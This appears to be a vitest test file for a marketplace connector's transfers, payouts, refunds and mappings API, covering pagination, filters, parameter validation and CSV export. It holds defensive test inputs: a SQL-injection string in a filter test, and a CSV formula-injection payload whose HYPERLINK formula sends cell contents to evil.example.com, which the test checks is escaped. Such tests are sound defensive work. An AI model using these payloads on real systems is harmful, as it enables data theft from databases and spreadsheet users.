import { utcTimestamp } from '@connector/database';
import { test, type World } from '@connector/testing';
import { describe, expect } from 'vitest';
import { serveApi } from '../api-test.ts';

const transfer = { type: 'TRANSFER_PRODUCT_ORDER', status: 'TRANSFER_CREATED', currency: 'eur' };

/** So many transfers, one a minute. */
async function givenTransfers({ db, now }: World, count: number): Promise<void> {
  const rows = Array.from({ length: count }, (_, index) => ({
    ...transfer,
    mirakl_id: `O-${index + 1}`,
    creation_datetime: utcTimestamp(new Date(now().getTime() + index * 60_000)),
  }));
  await db.insertInto('stripe_transfer').values(rows).execute();
}

async function givenMapping({ db }: World, shopId: number): Promise<number> {
  const values = { mirakl_shop_id: shopId, stripe_account_id: `acct_${shopId}` };
  const { id } = await db.insertInto('account_mapping').values(values).returning('id').executeTakeFirstOrThrow();
  return id;
}

const idsOf = (answer: { json: unknown }) => (answer.json as { id: number }[]).map(({ id }) => id);
const miraklIdsOf = (answer: { json: unknown }) => (answer.json as { miraklId: string }[]).map((row) => row.miraklId);

describe('L34: pages', () => {
  test('have thirty records from the oldest on, and lead to each other until all are read', async ({ world }) => {
    await givenTransfers(world, 65);
    const { get } = await serveApi(world);
    const first = await get('/api/transfers');
    expect(idsOf(first)).toEqual(Array.from({ length: 30 }, (_, index) => index + 1));
    expect(first.headers.get('link')).toBe('</api/transfers?page=2>; rel="next"');
    const second = await get('/api/transfers?page=2');
    expect(second.headers.get('link')).toBe('</api/transfers?page=3>; rel="next", </api/transfers?page=1>; rel="prev"');
    const last = await get('/api/transfers?page=3');
    expect(idsOf(last)).toEqual([61, 62, 63, 64, 65]);
    expect(last.headers.get('link')).toBe('</api/transfers?page=2>; rel="prev"');
    expect(idsOf(await get('/api/transfers?page=4'))).toEqual([]);
  });

  test('have as many as somebody asks for, at most a hundred, and their links keep what was asked', async ({
    world,
  }) => {
    await givenTransfers(world, 120);
    const { get } = await serveApi(world);
    const asked = 'status%5B%5D=TRANSFER_CREATED&itemsPerPage=100';
    const page = await get(`/api/transfers?${asked}`);
    expect(idsOf(page)).toHaveLength(100);
    const next = /<(.*)>; rel="next"/.exec(page.headers.get('link') ?? '')?.[1] ?? '';
    expect(next).toBe(`/api/transfers?${asked}&page=2`);
    expect(idsOf(await get(next))).toHaveLength(20);
    const exact = await get('/api/transfers?itemsPerPage=60&page=2');
    expect([idsOf(exact).length, exact.headers.get('link')]).toEqual([
      60,
      '</api/transfers?itemsPerPage=60&page=1>; rel="prev"',
    ]);
  });

  test('are cut by age, and by id within a second, so that what comes meanwhile moves nothing', async ({ world }) => {
    await givenTransfers(world, 2);
    const late = { ...transfer, mirakl_id: 'late', creation_datetime: utcTimestamp(new Date('2026-11-02T08:00:00Z')) };
    await world.db.insertInto('stripe_transfer').values(late).execute();
    const { get } = await serveApi(world);
    expect(miraklIdsOf(await get('/api/transfers'))).toEqual(['late', 'O-1', 'O-2']);
  });
});

describe('filters', () => {
  test('take one value or several, written in any of the ways that clients know', async ({ world }) => {
    await givenTransfers(world, 4);
    const { get } = await serveApi(world);
    const found = async (query: string) => miraklIdsOf(await get(`/api/transfers?${query}`));
    expect(await found('miraklId=O-2')).toEqual(['O-2']);
    expect(await found('miraklId=O-2&miraklId=O-4')).toEqual(['O-2', 'O-4']);
    expect(await found('miraklId[]=O-2&miraklId[]=O-4')).toEqual(['O-2', 'O-4']);
    expect(await found('miraklId%5B0%5D=O-2&miraklId%5B1%5D=O-4')).toEqual(['O-2', 'O-4']);
    expect(await found('miraklId[]=O-2')).toEqual(['O-2']);
    expect(await found("miraklId=O-2' or 'a'='a")).toEqual([]);
  });

  test('narrow together by state, type and time', async ({ world }) => {
    const { db } = world;
    const at = (creation_datetime: string) => ({ creation_datetime });
    await db
      .insertInto('stripe_transfer')
      .values([
        { ...transfer, mirakl_id: 'A', ...at('2026-11-01T10:00:00') },
        { ...transfer, mirakl_id: 'B', status: 'TRANSFER_FAILED', ...at('2026-11-02T10:00:00') },
        {
          ...transfer,
          mirakl_id: 'C',
          status: 'TRANSFER_ON_HOLD',
          type: 'TRANSFER_REFUND',
          ...at('2026-11-03T10:00:00'),
        },
      ])
      .execute();
    const { get } = await serveApi(world);
    const found = async (query: string) => miraklIdsOf(await get(`/api/transfers?${query}`));
    expect(await found('status=TRANSFER_FAILED')).toEqual(['B']);
    expect(await found('status=TRANSFER_FAILED&status=TRANSFER_ON_HOLD')).toEqual(['B', 'C']);
    expect(await found('type=TRANSFER_REFUND')).toEqual(['C']);
    expect(await found('type=TRANSFER_REFUND&status=TRANSFER_FAILED')).toEqual([]);
    expect(await found('createdAfter=2026-11-02')).toEqual(['B', 'C']);
    expect(await found('createdAfter=2026-11-02T11:00:00%2B01:00')).toEqual(['B', 'C']);
    expect(await found('createdBefore=2026-11-02T10:00:00Z')).toEqual(['A']);
    expect(await found('createdAfter=2026-11-02T10:00:00Z&createdBefore=2026-11-03T10:00:00.000Z')).toEqual(['B']);
  });

  test('by shop also find what the old connector wrote, which names the shop by its mapping or order only', async ({
    world,
  }) => {
    const { db } = world;
    const [shop7, shop8] = [await givenMapping(world, 7), await givenMapping(world, 8)];
    await db
      .insertInto('stripe_transfer')
      .values([
        { ...transfer, mirakl_id: 'old-7', account_mapping_id: shop7 },
        { ...transfer, mirakl_id: 'old-8', account_mapping_id: shop8 },
        { ...transfer, mirakl_id: 'new-7', account_mapping_id: shop7, mirakl_shop_id: 7 },
        { ...transfer, mirakl_id: 'waiting-9', mirakl_shop_id: 9 },
        // A fee that the platform takes from the tax account, on behalf of shop 9.
        { ...transfer, mirakl_id: 'tax-9', account_mapping_id: shop7, mirakl_shop_id: 9 },
      ])
      .execute();
    const payout = { status: 'PAYOUT_CREATED', mirakl_created_date: '2026-11-01T00:00:00' };
    await db
      .insertInto('stripe_payout')
      .values([
        { ...payout, mirakl_invoice_id: 1, account_mapping_id: shop7 },
        { ...payout, mirakl_invoice_id: 2, account_mapping_id: shop8, mirakl_shop_id: 8 },
      ])
      .execute();
    const refund = { amount: 1n, currency: 'eur', status: 'REFUND_CREATED' };
    await db
      .insertInto('stripe_refund')
      .values([
        { ...refund, mirakl_refund_id: 'r-old-7', mirakl_order_id: 'old-7' },
        { ...refund, mirakl_refund_id: 'r-old-8', mirakl_order_id: 'old-8' },
        { ...refund, mirakl_refund_id: 'r-new-7', mirakl_order_id: 'elsewhere', mirakl_shop_id: 7 },
      ])
      .execute();
    const { get } = await serveApi(world);
    const transfers = async (query: string) => miraklIdsOf(await get(`/api/transfers?${query}`));
    expect(await transfers('miraklShopId=7')).toEqual(['old-7', 'new-7']);
    expect(await transfers('miraklShopId=9')).toEqual(['waiting-9', 'tax-9']);
    expect(await transfers('miraklShopId=7&miraklShopId=8')).toEqual(['old-7', 'old-8', 'new-7']);
    expect(await transfers('miraklShopId=1234')).toEqual([]);
    expect((await get('/api/payouts?miraklShopId=7')).json).toMatchObject([{ miraklInvoiceId: 1 }]);
    expect((await get('/api/payouts?miraklShopId=8')).json).toMatchObject([{ miraklInvoiceId: 2 }]);
    expect((await get('/api/refunds?miraklShopId=7')).json).toMatchObject([
      { miraklRefundId: 'r-old-7' },
      { miraklRefundId: 'r-new-7' },
    ]);
    expect((await get('/api/mappings?miraklShopId=8')).json).toMatchObject([{ id: shop8 }]);
  });

  test('that are unknown or malformed are refused, and named', async ({ world }) => {
    const { get } = await serveApi(world);
    const complaints = [
      ['/api/transfers?status=DONE', 'status must be one of TRANSFER_PENDING, TRANSFER_CREATED'],
      ['/api/transfers?miraklShop=7', 'Unknown parameter: miraklShop'],
      ['/api/transfers?__proto__=7', 'Unknown parameter: __proto__'],
      ['/api/transfers?page=0', 'page must be a whole number from 1 to 1000000'],
      ['/api/transfers?page=1e3', 'page must be a whole number'],
      ['/api/transfers?page=', 'page must be a whole number'],
      ['/api/transfers?page=1&page=2', 'page must be a whole number'],
      ['/api/transfers?itemsPerPage=101', 'itemsPerPage must be a whole number from 1 to 100'],
      ['/api/transfers?miraklId=', 'miraklId must not be empty'],
      ['/api/transfers?miraklShopId=seven', 'miraklShopId must be a whole number'],
      ['/api/transfers?miraklShopId=2147483648', 'miraklShopId must be a whole number from 0 to 2147483647'],
      ['/api/transfers?createdAfter=yesterday', 'createdAfter must be an ISO 8601 date'],
      ['/api/transfers?createdAfter=2026-02-30', 'createdAfter must be an ISO 8601 date'],
      ['/api/transfers?createdAfter=2026-11-02T11:00:00+01:00', 'createdAfter must be an ISO 8601 date'],
      ['/api/transfers?createdBefore=0000-01-01', 'createdBefore must be an ISO 8601 date'],
      ['/api/payouts?type=TRANSFER_REFUND', 'Unknown parameter: type'],
      ['/api/refunds?status=PAYOUT_FAILED&type=X', 'status must be one of REFUND_PENDING'],
      ['/api/refunds?status=PAYOUT_FAILED&type=X', 'type must be one of REFUND_PRODUCT_ORDER'],
      ['/api/mappings?status=TRANSFER_FAILED', 'Unknown parameter: status'],
    ] as const;
    for (const [path, complaint] of complaints) {
      const { status, json } = await get(path);
      expect([path, status, json]).toEqual([path, 400, { message: expect.stringContaining(complaint) }]);
    }
  });
});

describe('CSV', () => {
  test('has the fields of the JSON, page by page, for who accepts it', async ({ world }) => {
    await givenTransfers(world, 31);
    const { get } = await serveApi(world);
    const json = await get('/api/transfers');
    const csv = await get('/api/transfers?page=2', { accept: 'text/csv' });
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('link')).toContain('rel="prev"');
    const [header, ...lines] = csv.text.trimEnd().split('\r\n');
    expect(header?.split(',')).toEqual(Object.keys((json.json as object[])[0] ?? {}));
    expect(lines).toEqual([
      '31,O-31,TRANSFER_PRODUCT_ORDER,,,,,TRANSFER_CREATED,,eur,,2026-11-02T09:30:00.000Z,' +
        lines[0]?.split(',').at(-1),
    ]);
    for (const accept of [
      'application/json',
      '*/*',
      'text/html,application/xhtml+xml,*/*;q=0.8',
      'application/ld+json',
    ])
      expect((await get('/api/transfers', { accept })).headers.get('content-type')).toContain('application/json');
  });

  test('has its header also without records, and says true and false', async ({ world }) => {
    const { get } = await serveApi(world);
    const header = 'id,miraklShopId,stripeAccountId,onboardingToken,payoutEnabled,payinEnabled,ignored,disabledReason';
    expect((await get('/api/mappings', { accept: 'text/csv' })).text).toBe(
      `${header},creationDatetime,modificationDatetime\r\n`,
    );
    await givenMapping(world, 7);
    expect((await get('/api/mappings', { accept: 'text/csv' })).text).toContain(
      '1,7,acct_7,false,false,false,false,,2',
    );
  });

  test('gives a spreadsheet no formula to run', async ({ world }) => {
    const statusReason = '=HYPERLINK("https://evil.example.com?"&A1,"more")';
    await world.db
      .insertInto('stripe_transfer')
      .values([
        { ...transfer, mirakl_id: '-2+3', amount: -500n, status_reason: statusReason },
        { ...transfer, mirakl_id: '@SUM(A1)', amount: 5n, status_reason: 'a, "b"\nc' },
      ])
      .execute();
    const { get } = await serveApi(world);
    const { text } = await get('/api/transfers', { accept: 'text/csv' });
    expect(text).toContain(",'-2+3,");
    expect(text).toContain(',-500,');
    expect(text).toContain('"\'=HYPERLINK(""https://evil.example.com?""&A1,""more"")"');
    expect(text).toContain(",'@SUM(A1),");
    expect(text).toContain('"a, ""b""\nc"');
  });
});
